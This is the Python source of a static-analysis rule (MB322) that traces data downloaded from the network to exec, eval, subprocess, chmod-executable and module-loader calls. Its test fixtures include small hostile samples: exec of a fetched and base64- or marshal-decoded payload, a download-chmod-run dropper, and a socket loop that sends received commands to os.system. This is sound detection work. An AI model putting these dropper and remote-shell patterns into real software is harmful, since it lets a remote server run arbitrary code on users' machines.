"""Security rule on the syntax tree: downloaded code that is run (MB322).

An intra-procedural data flow, within one function body (or the module's top
level, or a class body): values read from the network are followed through
assignments, decoders (``base64``, ``zlib``, ``marshal``), string building and
files written with them, to the calls that run code: ``exec``/``eval``/
``compile``, subprocesses, ``os.chmod`` with an execute bit, ``runpy`` and
``importlib`` loaders. The traversal visits statements in source order, so a
name is tainted from its assignment on; a branch does not untaint it.
Every name is matched by its resolved qualified name (aliases, ``from x
import y``), never by its spelling.
"""

from __future__ import annotations

from dataclasses import dataclass

import libcst as cst

from mbcheck.checks.security.classify import short_name
from mbcheck.checks.security.tables import tables
from mbcheck.checks.security.values import resolve
from mbcheck.model import Category, Confidence, Severity
from mbcheck.pyfile.literals import literal_int, literal_string
from mbcheck.pyfile.traverse import FileContext, SourceRule
from mbcheck.rules.base import Invalid, Valid

#: calls whose result is a response (or its bytes) read from the network
_FETCHES = frozenset({
    "urllib.request.urlopen", "urllib2.urlopen", "urllib.urlopen",
    *(f"{lib}.{verb}" for lib in ("requests", "httpx") for verb in ("get", "post", "put", "request", "stream")),
    "urllib3.request", "aiohttp.request",
})
#: calls that make a client whose request methods fetch from the network
_CLIENTS = frozenset({
    "requests.Session", "requests.session", "httpx.Client", "httpx.AsyncClient", "urllib3.PoolManager",
    "aiohttp.ClientSession", "socket.socket", "socket.create_connection", "http.client.HTTPConnection",
    "http.client.HTTPSConnection", "urllib.request.build_opener",
})
_CLIENT_METHODS = frozenset({
    "get", "post", "put", "request", "stream", "recv", "recvfrom", "recv_into", "makefile", "open",
    "getresponse", "urlopen",
})
#: calls that save the download to a path (the path is their second argument or their result)
_RETRIEVES = frozenset({"urllib.request.urlretrieve", "urllib.urlretrieve", "wget.download"})
#: attributes of a response that are not its body
_NOT_BODY = frozenset({
    "status_code", "status", "headers", "url", "ok", "reason", "code", "getcode", "geturl", "info",
    "raise_for_status", "close", "elapsed", "encoding", "cookies", "history", "is_redirect",
    "startswith", "endswith", "count", "find", "index", "getheader", "getheaders",
})
#: calls that pass their (first) argument's content on, transformed
_TRANSFORMS_PREFIXES = ("base64.", "binascii.", "codecs.")
_TRANSFORMS = frozenset({
    "zlib.decompress", "gzip.decompress", "bz2.decompress", "lzma.decompress", "marshal.loads",
    "builtins.bytes", "builtins.str", "builtins.bytearray", "json.loads", "io.BytesIO", "io.StringIO",
    "builtins.memoryview", "pickle.loads",
})
#: calls that run their first argument as code
_CODE_SINKS = {
    "builtins.exec": "exec", "builtins.eval": "eval", "builtins.compile": "compile",
    "types.FunctionType": "types.FunctionType", "pickle.loads": "pickle.loads",
}
#: calls that run a program named by any argument
_PROCESS_SINKS = frozenset({
    *tables().shell_calls, "os.execv", "os.execve", "os.execl", "os.execlp", "os.execvp", "os.execvpe",
    "os.spawnv", "os.spawnve", "os.spawnl", "os.spawnlp", "os.startfile", "os.posix_spawn",
    "os.posix_spawnp", "asyncio.create_subprocess_exec", "pty.spawn",
})
#: calls that load and run the code of a file named by any argument
_LOAD_SINKS = frozenset({
    "runpy.run_path", "importlib.util.spec_from_file_location", "importlib.machinery.SourceFileLoader",
    "importlib.machinery.SourcelessFileLoader", "importlib.machinery.ExtensionFileLoader",
    "imp.load_source", "imp.load_compiled", "imp.load_dynamic", "zipimport.zipimporter",
    "ctypes.CDLL", "ctypes.cdll.LoadLibrary", "ctypes.WinDLL", "ctypes.PyDLL",
})
_EXEC_BITS = frozenset({
    "stat.S_IXUSR", "stat.S_IXGRP", "stat.S_IXOTH", "stat.S_IEXEC", "stat.S_IRWXU", "stat.S_IRWXG",
    "stat.S_IRWXO",
})
_WRITE_MODES = ("w", "a", "x", "+")


@dataclass(frozen=True)
class Taint:
    """What a value holds: ``data`` (downloaded bytes or a response), ``file`` (a path whose
    content was downloaded), ``client`` (a socket or session), ``handle`` (a file opened for
    writing, ``path`` naming where it points)."""

    kind: str
    #: where the download happened (its line is resolved only for a finding)
    origin: cst.CSTNode
    path: str | None = None


class DownloadedCodeExecution(SourceRule):
    """Runs code it downloaded: network data reaches `exec`, a subprocess, or a file made executable.

    Follows, within one function, what `urlopen(...).read()`, `requests.get(...).content`,
    `httpx`, a socket's `recv` or `urlretrieve` return, through assignments, `.read()`,
    `.decode()`, `base64`/`zlib`/`marshal` decoding, string building, and files written
    with it (`open(path, "wb").write(data)`), to `exec`/`eval`/`compile`, a subprocess or
    `os.system`, `os.chmod` with an execute bit, `runpy.run_path`, or an `importlib` loader.
    Why: this is the dropper of most malicious packages: what runs is decided by a server
    after review, so neither a reviewer nor mbcheck sees the code the user runs.
    Instead: ship the code in the plugin; download data only, verify it (a pinned hash or a
    signature) and parse it as data (`json`), never run it.
    """

    code = "MB322"
    name = "downloaded-code-execution"
    category = Category.SECURITY
    severity = Severity.ERROR
    confidence = Confidence.HIGH
    VALID = (
        Valid("import hashlib\nimport urllib.request\n\n"
              "def fetch(url, path, digest):\n"
              "    with urllib.request.urlopen(url, timeout=10) as response:\n"
              "        data = response.read()\n"
              "    if hashlib.sha256(data).hexdigest() != digest:\n"
              "        raise ValueError('checksum mismatch')\n"
              "    with open(path, 'wb') as out:\n"
              "        out.write(data)\n"
              "    return path\n"),
        Valid("import requests\n\ndef latest(url):\n"
              "    info = requests.get(url, timeout=10).json()\n"
              "    return info['version']\n"),
        Valid("import subprocess\nimport requests\n\ndef clone(url):\n"
              "    status = requests.get(url, timeout=10).status_code\n"
              "    if status == 200:\n        subprocess.run(['git', 'clone', url], check=True)\n"),
        Valid("import os\nfrom urllib.request import urlretrieve\n\ndef save(url, path):\n"
              "    urlretrieve(url, path)\n    os.chmod(path, 0o644)\n"),
    )
    INVALID = (
        Invalid("from urllib.request import urlopen\n\ndef update(u):\n    exec(urlopen(u).read())\n", line=4),
        Invalid("import base64\nimport requests\n\n"
                "data = requests.get('https://example.org/p').content\n"
                "exec(base64.b64decode(data))\n", line=5),
        Invalid("import os\nimport subprocess\nfrom urllib.request import urlretrieve\n\n"
                "def run(u, p):\n    urlretrieve(u, p)\n    os.chmod(p, 0o755)\n    subprocess.run([p])\n",
                line=7),
        Invalid("import marshal\nimport zlib\nimport requests as r\n\ndef go(u):\n"
                "    blob = r.get(u).text\n    code = marshal.loads(zlib.decompress(blob.encode()))\n"
                "    exec(code)\n", line=8),
        Invalid("import os\nimport stat\nimport httpx\n\ndef drop(u, p):\n"
                "    body = httpx.get(u).content\n    with open(p, 'wb') as f:\n        f.write(body)\n"
                "    os.chmod(p, stat.S_IXUSR | stat.S_IRUSR)\n", line=9),
        Invalid("import os\nimport socket\n\ndef shell(host):\n    s = socket.socket()\n    s.connect((host, 4444))\n"
                "    cmd = s.recv(1024).decode()\n    line = f'sh -c {cmd}'\n"
                "    os.system(line)\n", line=9),
    )

    def __init__(self, ctx: FileContext) -> None:
        super().__init__(ctx)
        self._scopes: list[dict[str, Taint]] = [{}]

    # -- scopes ---------------------------------------------------------------

    def visit_FunctionDef(self, node: cst.FunctionDef) -> None:
        self._scopes.append({})

    def leave_FunctionDef(self, original_node: cst.FunctionDef) -> None:
        self._scopes.pop()

    def visit_ClassDef(self, node: cst.ClassDef) -> None:
        self._scopes.append({})

    def leave_ClassDef(self, original_node: cst.ClassDef) -> None:
        self._scopes.pop()

    @property
    def _names(self) -> dict[str, Taint]:
        return self._scopes[-1]

    # -- what an expression holds ---------------------------------------------

    def _line(self, node: cst.CSTNode) -> int:
        return self.ctx.line(node)

    def _taint(self, expr: cst.BaseExpression, depth: int = 0) -> Taint | None:
        if depth > 30:
            return None
        if type(expr) is cst.Name:
            return self._names.get(expr.value)
        if type(expr) is cst.Await:
            return self._taint(expr.expression, depth + 1)
        if type(expr) is cst.Call:
            return self._call_taint(expr, depth)
        if type(expr) is cst.Attribute:
            base = self._taint(expr.value, depth + 1)
            if base is not None and base.kind == "data" and expr.attr.value not in _NOT_BODY:
                return base
            return None
        if type(expr) is cst.Subscript:
            base = self._taint(expr.value, depth + 1)
            return base if base is not None and base.kind in ("data", "file") else None
        if type(expr) is cst.BinaryOperation:
            return self._first(depth, expr.left, expr.right)
        if type(expr) is cst.FormattedString:
            return self._first(depth, *(part.expression for part in expr.parts
                                        if type(part) is cst.FormattedStringExpression))
        if type(expr) is cst.ConcatenatedString:
            return self._first(depth, expr.left, expr.right)
        if (type(expr) is cst.List or type(expr) is cst.Tuple or type(expr) is cst.Set):
            return self._first(depth, *(el.value for el in expr.elements))
        return None

    def _first(self, depth: int, *exprs: cst.BaseExpression) -> Taint | None:
        for item in exprs:
            found = self._taint(item, depth + 1)
            if found is not None and found.kind in ("data", "file"):
                return found
        return None

    def _args_taint(self, call: cst.Call, depth: int) -> Taint | None:
        return self._first(depth, *(arg.value for arg in call.args))

    def _call_taint(self, call: cst.Call, depth: int) -> Taint | None:
        name = resolve(self.ctx, call.func)
        line = call
        if name in _FETCHES:
            return Taint("data", line)
        if name in _CLIENTS:
            return Taint("client", line)
        if name in _RETRIEVES:
            return Taint("file", line)
        if name == "builtins.open" and call.args:
            path = self._taint(call.args[0].value, depth + 1)
            if self._writes(call):
                target = call.args[0].value
                return Taint("handle", line, target.value if type(target) is cst.Name else None)
            return Taint("data", path.origin) if path is not None and path.kind == "file" else None
        if name is not None and (name in _TRANSFORMS or name.startswith(_TRANSFORMS_PREFIXES)):
            found = self._args_taint(call, depth)
            return Taint("data", found.origin) if found is not None else None
        if name == "shutil.copyfileobj":
            return None
        if type(call.func) is cst.Attribute:
            method = call.func.attr.value
            receiver = self._taint(call.func.value, depth + 1)
            if receiver is None:
                if method == "join" and call.args:
                    return self._args_taint(call, depth)
                return None
            if receiver.kind == "client" and method in _CLIENT_METHODS:
                return Taint("data", line)
            if receiver.kind == "data" and method not in _NOT_BODY:
                return receiver
            if receiver.kind == "file" and method in ("read_bytes", "read_text", "open"):
                return Taint("data", receiver.origin)
        return None

    def _writes(self, call: cst.Call) -> bool:
        mode: cst.BaseExpression | None = None
        if len(call.args) >= 2 and call.args[1].keyword is None:
            mode = call.args[1].value
        for arg in call.args:
            if arg.keyword is not None and arg.keyword.value == "mode":
                mode = arg.value
        text = literal_string(mode) if mode is not None else None
        return text is not None and any(flag in text for flag in _WRITE_MODES)

    # -- bindings -------------------------------------------------------------

    def _bind(self, target: cst.BaseExpression, taint: Taint | None) -> None:
        if type(target) is cst.Name:
            if taint is None:
                self._names.pop(target.value, None)
            else:
                self._names[target.value] = taint
        elif (type(target) is cst.Tuple or type(target) is cst.List):
            for element in target.elements:
                self._bind(element.value, taint)

    def leave_Assign(self, original_node: cst.Assign) -> None:
        taint = self._taint(original_node.value)
        for target in original_node.targets:
            self._bind(target.target, taint)

    def leave_AnnAssign(self, original_node: cst.AnnAssign) -> None:
        if original_node.value is not None:
            self._bind(original_node.target, self._taint(original_node.value))

    def leave_AugAssign(self, original_node: cst.AugAssign) -> None:
        taint = self._taint(original_node.value)
        if taint is not None and taint.kind == "data":
            self._bind(original_node.target, taint)

    def visit_With(self, node: cst.With) -> None:
        for item in node.items:
            if item.asname is not None:
                self._bind(item.asname.name, self._taint(item.item))

    def visit_For(self, node: cst.For) -> None:
        taint = self._taint(node.iter)
        if taint is not None and taint.kind == "data":
            self._bind(node.target, taint)

    # -- sinks ----------------------------------------------------------------

    def visit_Call(self, node: cst.Call) -> None:
        name = resolve(self.ctx, node.func)
        if type(node.func) is cst.Attribute:
            self._method_call(node, node.func)
        if name is None:
            return
        if name in _RETRIEVES and len(node.args) >= 2:
            self._bind(node.args[1].value, Taint("file", node))
        elif name in _CODE_SINKS and node.args:
            found = self._taint(node.args[0].value)
            if found is not None and found.kind == "data":
                self._found(node, found, f"code downloaded at line {self._line(found.origin)} reaches "
                            f"`{_CODE_SINKS[name]}`: the server decides what runs in the host")
        elif name in _PROCESS_SINKS or name in _LOAD_SINKS:
            found = self._args_taint(node, 0)
            if found is not None:
                what = "a file" if found.kind == "file" else "data"
                verb = "runs" if name in _PROCESS_SINKS else "loads"
                self._found(node, found, f"{what} downloaded at line {self._line(found.origin)} reaches "
                            f"`{short_name(name)}`, which {verb} it as a program")
        elif name == "os.chmod" and len(node.args) >= 2:
            self._chmod(node, node.args[0].value, node.args[1].value)

    def _method_call(self, node: cst.Call, func: cst.Attribute) -> None:
        method = func.attr.value
        receiver = self._taint(func.value)
        if receiver is None:
            return
        if receiver.kind == "handle" and method in ("write", "writelines") and node.args:
            data = self._taint(node.args[0].value)
            if data is not None and data.kind == "data" and receiver.path is not None:
                self._names[receiver.path] = Taint("file", data.origin)
        elif receiver.kind == "file" and method == "chmod" and node.args:
            self._chmod(node, func.value, node.args[0].value)

    def leave_Call(self, original_node: cst.Call) -> None:
        # ``Path(p).write_bytes(data)`` / ``p.write_bytes(data)``: the path now holds the download
        func = original_node.func
        if type(func) is not cst.Attribute or func.attr.value not in ("write_bytes", "write_text"):
            return
        if not original_node.args:
            return
        data = self._taint(original_node.args[0].value)
        if data is None or data.kind != "data":
            return
        target = func.value
        if type(target) is cst.Call and target.args and resolve(self.ctx, target.func) in (
                "pathlib.Path", "pathlib.PurePath"):
            target = target.args[0].value
        if type(target) is cst.Name:
            self._names[target.value] = Taint("file", data.origin)

    def _chmod(self, node: cst.Call, path: cst.BaseExpression, mode: cst.BaseExpression) -> None:
        found = self._taint(path)
        if found is None or found.kind != "file" or not self._executable(mode):
            return
        self._found(node, found, f"a file downloaded at line {self._line(found.origin)} is made executable: "
                    "the server decides what runs on the user's machine")

    def _executable(self, mode: cst.BaseExpression) -> bool:
        value = literal_int(mode)
        if value is not None:
            return bool(value & 0o111)
        if type(mode) is cst.BinaryOperation:
            return self._executable(mode.left) or self._executable(mode.right)
        return resolve(self.ctx, mode) in _EXEC_BITS

    def _found(self, node: cst.Call, found: Taint, message: str) -> None:
        self.report(node, message)
